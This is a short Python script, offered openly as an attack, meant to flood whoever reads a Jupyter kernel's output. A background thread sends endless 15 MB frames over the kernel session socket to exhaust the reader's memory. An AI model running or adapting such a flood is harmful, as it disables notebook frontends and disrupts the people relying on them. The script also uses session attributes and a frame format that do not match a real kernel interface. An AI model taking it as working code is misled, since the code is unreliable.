# fills whoever reads its output: every frame announces the most that is allowed, and more follow
import os, socket, struct, threading, time

outlet = get_ipython().kernel.session
part = struct.pack('<4sB8sQ', b'dgk1', 3, outlet.cell, 15 << 20)


def flood():
    while True:
        outlet.sock.sendall(part + bytes(15 << 20))


threading.Thread(target=flood, daemon=True).start()
time.sleep(1000)
